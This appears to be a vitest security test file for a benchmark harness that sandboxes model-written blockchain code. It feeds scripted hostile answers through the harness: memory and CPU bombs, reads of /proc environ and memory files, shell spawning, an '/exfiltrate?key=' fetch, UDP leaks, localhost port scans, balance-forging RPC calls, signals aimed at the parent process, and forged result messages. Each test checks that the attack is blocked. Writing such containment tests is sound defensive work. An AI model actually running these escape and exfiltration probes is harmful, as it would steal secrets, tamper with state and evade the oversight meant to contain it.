import { spawn } from "node:child_process";
import { createSocket } from "node:dgram";
import { mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { type AddressInfo, createServer as createNetServer } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { referenceModel } from "../src/models/reference.ts";
import { scriptedModel } from "../src/models/scripted.ts";
import type { ModelClient } from "../src/models/types.ts";
import { runAttempt } from "../src/protocol/attempt.ts";
import { chainClients } from "../src/protocol/chain.ts";
import type { FailureClass, InstanceResult } from "../src/results/types.ts";
import { ensureNetworkBarrier } from "../src/sandbox/networkBarrier.ts";
import { startRpcGuard } from "../src/sandbox/rpcGuard.ts";
import { instantiate } from "../src/tasks/instantiate.ts";
import { type AnvilPool, createAnvilPool } from "../src/world/pool.ts";
import { taskById, world } from "./helpers/attempts.ts";

// Hostile model code through the real attempt path (scripted model → sandbox → RPC guard → chain →
// checks): every attack ends as a score of 0 with a failure class or an integrity violation, and the
// next attempt on the same pool still scores 100. What each attack proves is listed in docs/SECURITY.md.

const barrier = ensureNetworkBarrier();
/** How a blocked connection ends: refused by the permission model (`node-permission`) or by iptables. */
const BLOCKED = (tag: string) => new RegExp(`${tag}:(ERR_ACCESS_DENIED|ECONNREFUSED)`);
const ATOMIC = "bnb_transfer_basic";
const COMPOSITE = "composite_wrap_unwrap_cycle"; // K_opt 2: wrap, then unwrap
/** A balance no attempt can reach honestly: finding it on the chain means an attack got through. */
const PWNED_BALANCE = 0x1234567890abcdefn;

let pool: AnvilPool;
beforeAll(async () => {
  pool = createAnvilPool({ size: 1, world });
  await pool.start();
});
afterAll(async () => {
  await pool?.stop();
});

const ts = (body: string, imports = "") =>
  `\`\`\`ts\n${imports}\nexport async function executeSkill(providerUrl: string, agentAddress: string, deployedContracts: Record<string, string>) {\n${body}\n}\n\`\`\``;
/** A module with top-level code (runs while the harness imports it). */
const tsTop = (top: string, body: string, imports = "") =>
  `\`\`\`ts\n${imports}\n${top}\nexport async function executeSkill(providerUrl: string, agentAddress: string, deployedContracts: Record<string, string>) {\n${body}\n}\n\`\`\``;
/** The right answer to bnb_transfer_basic, for attacks that try to act after a correct return. */
const RIGHT = 'return { to: "{{to}}", value: parseEther("{{x}}") };';
const VIEM = 'import { parseEther } from "viem";';
/**
 * Sockets without node:net, which the sandbox refuses: the class of the module's own stdout (a pipe
 * socket) is net.Socket, so these attacks still reach the permission model's network barrier.
 */
const NET =
  "const connect = (target: any, onConnect?: () => void) => new (process.stdout.constructor as any)().connect(target, onConnect);";
/** Model code's way to the result channel (fd 3) without node:fs: its stdout's class wraps any pipe. */
const FD3 = `const channel = new (process.stdout.constructor as any)({ fd: 3, readable: false });
const writeChannel = (data: string) => new Promise((resolve) => channel.write(data, resolve));`;

/** Writes a scripted model's directory: `files` maps `<task-id>.md` or `<task-id>/round-N.md` to text. */
function scripted(files: Record<string, string>) {
  const dir = mkdtempSync(path.join(tmpdir(), "qb-attack-"));
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
    writeFileSync(path.join(dir, name), text);
  }
  return scriptedModel(dir);
}

type Limits = { timeoutMs?: number; memoryMb?: number };
async function run(taskId: string, model: ModelClient = referenceModel(), limits: Limits = {}) {
  const task = taskById.get(taskId)!;
  const instance = await instantiate(task.spec, { runSeed: 1, world });
  const lease = await pool.lease();
  try {
    const result = await runAttempt({ task, instance, model, world, chain: lease, ...limits });
    const balance = await chainClients(lease.url, world).public.getBalance({ address: world.agent.address });
    return { result, balance, anvilUrl: lease.url };
  } finally {
    lease.release();
  }
}

/** One atomic attack, then the proof that the pool still serves a perfect attempt. */
async function attack(body: string, expected: FailureClass[], limits: Limits = { timeoutMs: 4_000 }) {
  const { result, balance } = await run(ATOMIC, scripted({ [`${ATOMIC}.md`]: body }), limits);
  expect(result.score, JSON.stringify(result.failure)).toBe(0);
  expect(result.passed).toBe(false);
  expect(expected, JSON.stringify(result.failure)).toContain(result.failure?.class);
  expect(result.transaction).toBeUndefined();
  expect(balance).not.toBe(PWNED_BALANCE);
  const next = await run(ATOMIC);
  expect(next.result.score, next.result.failure?.reason).toBe(100);
  return result;
}

describe("hostile module code in an atomic attempt", () => {
  test("a memory bomb is stopped at the heap cap (resource_limit)", async () => {
    const r = await attack(
      ts("const hoard = []; for (;;) hoard.push(new Array(100_000).fill(Math.random()));"),
      ["resource_limit"],
      { timeoutMs: 20_000, memoryMb: 64 },
    );
    expect(r.failure?.code).toBe("memory_limit");
  });

  test("a CPU burn (hashing forever) is killed at the timeout", async () => {
    const r = await attack(
      ts(
        'let h = "x"; for (;;) h = createHash("sha256").update(h).digest("hex");',
        'import { createHash } from "node:crypto";',
      ),
      ["timeout"],
    );
    expect(r.failure?.reason).toMatch(/did not finish within 4000 ms/);
  });

  test("a WebAssembly infinite loop is killed at the timeout", async () => {
    // (module (func (export "f") (loop (br 0))))
    const wasm = "0061736d0100000001040160000003020100070501016600000a0901070003400c000b0b";
    await attack(
      ts(`const bytes = Uint8Array.from("${wasm}".match(/../g)!.map((b) => parseInt(b, 16)));
          const { instance } = await WebAssembly.instantiate(bytes);
          (instance.exports.f as () => void)();`),
      ["timeout"],
    );
  });

  test("a huge return value is refused as resource_limit without reaching the harness's memory", async () => {
    const r = await attack(ts('return { to: "{{to}}", data: "0x" + "ab".repeat(8_000_000) };'), [
      "resource_limit",
    ]);
    expect(r.failure?.code).toBe("output_too_large");
  });

  test("a promise that never settles is a timeout", async () => {
    await attack(ts("return new Promise(() => {});"), ["timeout"]);
  });

  test("a top-level await that never settles is a timeout", async () => {
    await attack(tsTop("await new Promise(() => {});", RIGHT, VIEM), ["timeout"]);
  });

  test("a top-level await kept pending by a live timer is killed at the timeout", async () => {
    await attack(tsTop("await new Promise(() => setInterval(() => {}, 100));", RIGHT, VIEM), ["timeout"]);
  });

  test("process.exit before returning is a runtime error", async () => {
    const r = await attack(ts("process.exit(0);"), ["runtime_error"]);
    expect(r.failure?.code).toBe("process_exit");
  });

  test("process.exit in a later tick, before the value is returned, is a runtime error", async () => {
    const r = await attack(
      ts(
        `setTimeout(() => process.exit(0), 10);
          return await new Promise((resolve) => setTimeout(() => resolve({ to: "{{to}}", value: parseEther("{{x}}") }), 500));`,
        VIEM,
      ),
      ["runtime_error"],
    );
    expect(r.failure?.code).toBe("process_exit");
  });

  test("process.exit in the tick after returning cannot change the value already returned", async () => {
    // Not an attack that can win anything: the result is read before the exit; the attempt is scored
    // on the returned transaction (here the right one) and the harness goes on.
    const { result } = await run(
      ATOMIC,
      scripted({ [`${ATOMIC}.md`]: ts(`setTimeout(() => process.exit(3), 0);\n${RIGHT}`, VIEM) }),
    );
    expect(result.score).toBe(100);
    expect((await run(ATOMIC)).result.score).toBe(100);
  });

  test("an RPC flood through providerUrl is an integrity violation (rpc_flood)", async () => {
    const r = await attack(
      ts(
        `const call = () => fetch(providerUrl, { method: "POST", headers: { "content-type": "application/json" },
            body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "eth_blockNumber", params: [] }) });
          for (let i = 0; i < 25; i++) await Promise.all(Array.from({ length: 100 }, call));
          ${RIGHT}`,
        VIEM,
      ),
      ["integrity_violation"],
      { timeoutMs: 20_000 },
    );
    expect(r.integrityViolations.map((v) => v.kind)).toContain("rpc_flood");
  });

  test("a flood packed into one JSON-RPC batch is an integrity violation (rpc_flood)", async () => {
    const r = await attack(
      ts(
        `await fetch(providerUrl, { method: "POST", headers: { "content-type": "application/json" },
            body: JSON.stringify(Array.from({ length: 5_000 }, (_, id) => ({ jsonrpc: "2.0", id, method: "eth_chainId", params: [] }))) });
          ${RIGHT}`,
        VIEM,
      ),
      ["integrity_violation"],
      { timeoutMs: 20_000 },
    );
    expect(r.integrityViolations.map((v) => v.kind)).toContain("rpc_flood");
  });

  test.each([
    ["/proc/self/environ", '"/proc/self/environ"'],
    ["/proc/<ppid>/environ (the harness's environment)", '"/proc/" + process.ppid + "/environ"'],
    ["/proc/<ppid>/mem (the harness's memory)", '"/proc/" + process.ppid + "/mem"'],
    ["/proc/<ppid>/cmdline", '"/proc/" + process.ppid + "/cmdline"'],
  ])("reading %s is a sandbox violation", async (_what, file) => {
    const r = await attack(
      ts(
        `const fd = openSync(${file}, "r"); const buf = Buffer.alloc(4096); readSync(fd, buf, 0, 4096, 0); return { to: buf.toString("hex") };`,
        'import { openSync, readSync } from "node:fs";',
      ),
      ["sandbox_violation"],
    );
    expect(r.failure?.code).toBe("permission_denied");
  });

  test.each([
    [
      "a worker thread",
      "new Worker(\"require('fs')\", { eval: true });",
      'import { Worker } from "node:worker_threads";',
    ],
    [
      "an async child process (spawn)",
      'spawn("sh", ["-c", "id"]);',
      'import { spawn } from "node:child_process";',
    ],
    ["a child process through process.binding", '(process as any).binding("spawn_sync");', ""],
    ["a write to a file", 'writeFileSync("/tmp/qb-owned", "x");', 'import { writeFileSync } from "node:fs";'],
  ])("starting %s is a sandbox violation", async (_what, code, imports) => {
    await attack(ts(`${code}\nreturn { to: "{{to}}", value: 1n };`, imports), ["sandbox_violation"]);
  });
});

describe.skipIf(barrier.kind === "none")(`the network barrier (${barrier.kind}: ${barrier.detail})`, () => {
  const setBalanceRequest = (port: number) =>
    `const body = JSON.stringify({ jsonrpc: "2.0", id: 1, method: "anvil_setBalance", params: [agentAddress, "0x${PWNED_BALANCE.toString(16)}"] });
     const raw = \`POST / HTTP/1.1\\r\\nHost: 127.0.0.1:${port}\\r\\nContent-Type: application/json\\r\\nContent-Length: \${body.length}\\r\\nConnection: close\\r\\n\\r\\n\${body}\`;`;

  test("a raw TCP socket to the Anvil port on 127.0.0.1 is refused; the chain is untouched", async () => {
    const port = Number(new URL(pool.urls[0]!).port);
    const r = await attack(
      ts(
        `${setBalanceRequest(port)}
          const outcome = await new Promise<string>((resolve) => {
            const socket = connect({ host: "127.0.0.1", port: ${port} }, () => { socket.write(raw); resolve("connected"); });
            socket.on("error", (e: any) => resolve(String(e.code)));
          });
          throw new Error("tcp:" + outcome);`,
        NET,
      ),
      ["runtime_error"],
    );
    expect(r.failure?.reason).toMatch(BLOCKED("tcp"));
  });

  test("fetch to Anvil by localhost and [::1] is refused", async () => {
    const port = Number(new URL(pool.urls[0]!).port);
    const r = await attack(
      ts(`const outcomes = [];
          for (const url of ["http://127.0.0.1:${port}", "http://localhost:${port}", "http://[::1]:${port}", "http://127.0.0.3:${port}"]) {
            try { await fetch(url, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "anvil_setBalance", params: [agentAddress, "0x${PWNED_BALANCE.toString(16)}"] }), signal: AbortSignal.timeout(2000) }); outcomes.push("reached"); }
            catch (e: any) { outcomes.push(String(e.cause?.code ?? e.name)); }
          }
          throw new Error("fetch:" + outcomes.join(","));`),
      ["runtime_error"],
    );
    expect(r.failure?.reason).not.toContain("reached");
    expect(r.failure?.reason).toMatch(
      /fetch:(ERR_ACCESS_DENIED|ECONNREFUSED|ENETUNREACH|EADDRNOTAVAIL|UND_ERR_CONNECT_TIMEOUT|TimeoutError)/,
    );
  });

  test("an HTTP request to another harness-side server on 127.0.0.1 never arrives", async () => {
    let arrived = 0;
    const server = createServer((_req, res) => {
      arrived++;
      res.end("ok");
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const port = (server.address() as AddressInfo).port;
    try {
      const r = await attack(
        ts(`let outcome = "reached";
            try { await fetch("http://127.0.0.1:${port}/exfiltrate?key=" + agentAddress, { signal: AbortSignal.timeout(2000) }); }
            catch (e: any) { outcome = String(e.cause?.code ?? e.name); }
            throw new Error("http:" + outcome);`),
        ["runtime_error"],
      );
      expect(r.failure?.reason).toMatch(BLOCKED("http"));
      expect(arrived).toBe(0);
    } finally {
      server.close();
    }
  });

  test("a UDP datagram to a harness-side socket never arrives", async () => {
    let arrived = 0;
    const socket = createSocket("udp4");
    socket.on("message", () => arrived++);
    await new Promise<void>((resolve) => socket.bind(0, "127.0.0.1", resolve));
    const port = socket.address().port;
    try {
      const r = await attack(
        ts(
          `let createSocket: any;
            try { ({ createSocket } = await import("node:dgram")); } catch (e: any) { throw new Error("udp:" + e.code); }
            const s = createSocket("udp4");
            const outcome = await new Promise<string>((resolve) => {
              s.on("error", (e: any) => resolve(String(e.code)));
              s.send("leak", ${port}, "127.0.0.1", (e: any) => (e ? resolve(String(e.code)) : setTimeout(() => resolve("sent"), 300)));
            });
            throw new Error("udp:" + outcome);`,
        ),
        ["runtime_error"],
      );
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(arrived).toBe(0);
      expect(r.failure?.reason).toMatch(/udp:(ERR_ACCESS_DENIED|EPERM|ECONNREFUSED|sent)/);
    } finally {
      socket.close();
    }
  });

  test("fetch to the internet (by name and by IP) fails", async () => {
    const r = await attack(
      ts(`const outcomes = [];
          for (const url of ["https://example.com/", "http://1.1.1.1/"]) {
            try { await globalThis.fetch(url, { signal: AbortSignal.timeout(3000) }); outcomes.push("reached"); }
            catch (e: any) { outcomes.push(String(e.cause?.code ?? e.name)); }
          }
          throw new Error("internet:" + outcomes.join(","));`),
      ["runtime_error"],
    );
    expect(r.failure?.reason).not.toContain("reached");
  });
});

// The attacks of docs/SECURITY.md "Hostile model code", each as a hostile answer through the real attempt path. In CI the file
// also runs as an ordinary user, and (as root) inside a private network namespace (.ci/run).
describe("no way around the guard, no signals, no forged results", () => {
  const connectAll = (targets: string) =>
    `const outcomes: string[] = [];
     for (const target of ${targets}) {
       outcomes.push(await new Promise<string>((resolve) => {
         try {
           const socket = connect(target, () => { socket.destroy(); resolve("connected"); });
           socket.on("error", (e: any) => resolve(String(e.code)));
           socket.setTimeout(1500, () => { socket.destroy(); resolve("timeout"); });
         } catch (e: any) { resolve(String(e.code)); }
       }));
     }`;

  test("a port scan of 127.0.0.1 and 127.0.0.2 around Anvil's port finds nothing; the chain is untouched", async () => {
    const port = Number(new URL(pool.urls[0]!).port);
    const r = await attack(
      ts(
        `${connectAll(`[...Array.from({ length: 41 }, (_, i) => ({ host: "127.0.0.1", port: ${port} - 20 + i })), { host: "127.0.0.2", port: ${port} }]`)}
         throw new Error("scan:" + [...new Set(outcomes)].join(","));`,
        NET,
      ),
      ["runtime_error"],
    );
    expect(r.failure?.reason).not.toContain("connected");
    expect(r.failure?.reason).toMatch(
      /scan:(ERR_ACCESS_DENIED|ECONNREFUSED)(,ECONNREFUSED|,ERR_ACCESS_DENIED)?$/,
    );
  });

  test("sweeping 127.0.0.2 for another attempt's guard reaches nothing and gets nobody flagged", async () => {
    // The victim: another execution's guard, alive while the attacker runs.
    const victim = await startRpcGuard({ upstreamUrl: pool.urls[0]! });
    const victimOrigin = new URL(victim.url).origin;
    try {
      const r = await attack(
        ts(`const outcomes: string[] = [];
            const body = JSON.stringify({ jsonrpc: "2.0", id: 1, method: "anvil_setBalance", params: [agentAddress, "0x${PWNED_BALANCE.toString(16)}"] });
            for (const url of ["${victimOrigin}/", "${victimOrigin}"]) {
              try { const res = await fetch(url, { method: "POST", headers: { "content-type": "application/json" }, body, signal: AbortSignal.timeout(2000) }); outcomes.push("status " + res.status); }
              catch (e: any) { outcomes.push(String(e.cause?.code ?? e.name)); }
            }
            throw new Error("sweep:" + outcomes.join(","));`),
        ["runtime_error"],
      );
      expect(victim.violations).toEqual([]);
      expect(victim.requestCount()).toBe(0);
      expect(r.failure?.reason).toMatch(/sweep:(ERR_ACCESS_DENIED|ECONNREFUSED|status 404),/);
    } finally {
      await victim.close();
    }
  });

  test("a TCP service bound to 0.0.0.0 (via 127.0.0.2) and path and abstract unix sockets are never reached", async () => {
    let arrived = 0;
    const servers = [
      createNetServer(() => arrived++),
      createNetServer(() => arrived++),
      createNetServer(() => arrived++),
    ];
    const dir = mkdtempSync(path.join(tmpdir(), "qb-unix-"));
    const socketPath = path.join(dir, "service.sock");
    const abstract = `\0questbench-test-${process.pid}-${Date.now()}`;
    await new Promise<void>((resolve) => servers[0]!.listen(0, "0.0.0.0", resolve));
    await new Promise<void>((resolve) => servers[1]!.listen(socketPath, resolve));
    await new Promise<void>((resolve) => servers[2]!.listen(abstract, resolve));
    const tcpPort = (servers[0]!.address() as AddressInfo).port;
    try {
      const r = await attack(
        ts(
          `${connectAll(`[{ host: "127.0.0.2", port: ${tcpPort} }, { path: ${JSON.stringify(socketPath)} }, { path: ${JSON.stringify(abstract)} }]`)}
           throw new Error("local:" + outcomes.join(","));`,
          NET,
        ),
        ["runtime_error"],
      );
      await new Promise((resolve) => setTimeout(resolve, 200));
      expect(arrived).toBe(0);
      expect(r.failure?.reason).not.toContain("connected");
    } finally {
      for (const server of servers) server.close();
    }
  });

  test("process.kill(process.ppid, 'SIGSTOP') and process._kill are refused; the harness runs on", async () => {
    const r = await attack(
      ts(`const codes: string[] = [];
          for (const attempt of [() => process.kill(process.ppid, "SIGSTOP"), () => (process as any)._kill(process.ppid, 19)]) {
            try { attempt(); codes.push("sent"); } catch (e: any) { codes.push(String(e.code)); }
          }
          try { Object.defineProperty(process, "kill", { value: () => true }); codes.push("redefined"); } catch (e: any) { codes.push(e.name); }
          throw new Error("signal:" + codes.join(","));`),
      ["runtime_error"],
    );
    expect(r.failure?.reason).toContain("signal:ERR_ACCESS_DENIED,ERR_ACCESS_DENIED,TypeError");
  });

  test("a sibling sandbox cannot be found (kill(-pid, 0)) or SIGKILLed", async () => {
    // The victim runs as the harness's own user, as a sibling does where no uid of its own exists.
    const victim = spawn("sleep", ["30"], { stdio: "ignore", detached: true });
    try {
      const r = await attack(
        ts(`const codes: string[] = [];
            for (const attempt of [() => process.kill(-${victim.pid}, 0), () => process.kill(${victim.pid}, "SIGKILL")]) {
              try { attempt(); codes.push("sent"); } catch (e: any) { codes.push(String(e.code)); }
            }
            throw new Error("sibling:" + codes.join(","));`),
        ["runtime_error"],
      );
      expect(r.failure?.reason).toContain("sibling:ERR_ACCESS_DENIED,ERR_ACCESS_DENIED");
      expect(victim.exitCode).toBe(null);
      expect(() => process.kill(victim.pid!, 0)).not.toThrow();
    } finally {
      victim.kill("SIGKILL");
    }
  });

  test('a forged {ok:false, code:"__proto__"} on the result channel is schema_invalid, never a class of {}', async () => {
    const r = await attack(
      tsTop(
        FD3,
        `await writeChannel(JSON.stringify({ type: "result", ok: false, code: "__proto__", message: "x" }) + "\\n");
         return await new Promise(() => setInterval(() => {}, 1000));`,
      ),
      ["schema_invalid"],
    );
    expect(r.failure).toMatchObject({ class: "schema_invalid", code: "output_invalid" });
  });

  test("a $bigint of 1 M digits is not revived: schema_invalid, and the result stays small", async () => {
    const r = await attack(
      tsTop(
        FD3,
        `await writeChannel(JSON.stringify({ type: "result", ok: true, value: { to: "{{to}}", value: { $bigint: "9".repeat(1_000_000) } } }) + "\\n");
         return await new Promise(() => setInterval(() => {}, 1000));`,
      ),
      ["schema_invalid"],
    );
    expect(JSON.stringify(r).length).toBeLessThan(20_000);
  });
});

describe("hostile code in a composite round", () => {
  const plan = '```json\n"plan": ["wrap", "unwrap"] \n```';
  const wrap = `\`\`\`ts\nimport { parseEther } from "viem";\nexport async function executeSkill(providerUrl: string, agentAddress: string, deployedContracts: Record<string, string>) {\n  return { to: deployedContracts.wbnb, data: "0xd0e30db0", value: parseEther("{{x}}") };\n}\n\`\`\``;
  const submit = '```json\n{ "submit": true }\n```';

  async function compositeAttack(hostile: string, limits: Limits): Promise<InstanceResult> {
    const model = scripted({
      [`${COMPOSITE}/plan.md`]: plan,
      [`${COMPOSITE}/round-1.md`]: wrap,
      [`${COMPOSITE}/round-2.md`]: `${hostile}\n\n${submit}`,
    });
    const { result, balance } = await run(COMPOSITE, model, limits);
    expect(result.score).toBe(0);
    expect(result.composite?.base).toBe(0);
    expect(balance).not.toBe(PWNED_BALANCE);
    const next = await run(COMPOSITE);
    expect(next.result.score, next.result.failure?.reason).toBe(100);
    return result;
  }

  test("a memory bomb in round 2 fails that round (resource_limit) and the instance scores 0", async () => {
    const r = await compositeAttack(
      ts("const hoard = []; for (;;) hoard.push(new Array(100_000).fill(1));"),
      {
        timeoutMs: 20_000,
        memoryMb: 64,
      },
    );
    expect(r.composite?.rounds.map((x) => x.kind)).toEqual(["transaction", "failed"]);
    expect(r.composite?.rounds[1]?.failure).toMatchObject({ class: "resource_limit", code: "memory_limit" });
    expect(r.failure?.class).toBe("checks_failed");
  });

  test("an RPC flood in round 2 is an integrity violation that ends the instance", async () => {
    const r = await compositeAttack(
      ts(`const call = () => fetch(providerUrl, { method: "POST", headers: { "content-type": "application/json" },
            body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "eth_chainId", params: [] }) });
          for (let i = 0; i < 25; i++) await Promise.all(Array.from({ length: 100 }, call));
          return { answer: {} };`),
      { timeoutMs: 20_000 },
    );
    expect(r.failure?.class).toBe("integrity_violation");
    expect(r.composite?.endedBy).toBe("integrity_violation");
  });

  test.skipIf(barrier.kind === "none")(
    "a TCP socket to the Anvil port in round 2 is refused and the round fails",
    async () => {
      const port = Number(new URL(pool.urls[0]!).port);
      const r = await compositeAttack(
        ts(
          `const outcome = await new Promise<string>((resolve) => {
              const socket = connect({ host: "127.0.0.1", port: ${port} }, () => resolve("connected"));
              socket.on("error", (e: any) => resolve(String(e.code)));
            });
            throw new Error("tcp:" + outcome);`,
          NET,
        ),
        { timeoutMs: 4_000 },
      );
      expect(r.composite?.rounds[1]?.failure).toMatchObject({ class: "runtime_error" });
      expect(r.composite?.rounds[1]?.failure?.reason).toMatch(BLOCKED("tcp"));
    },
  );
});
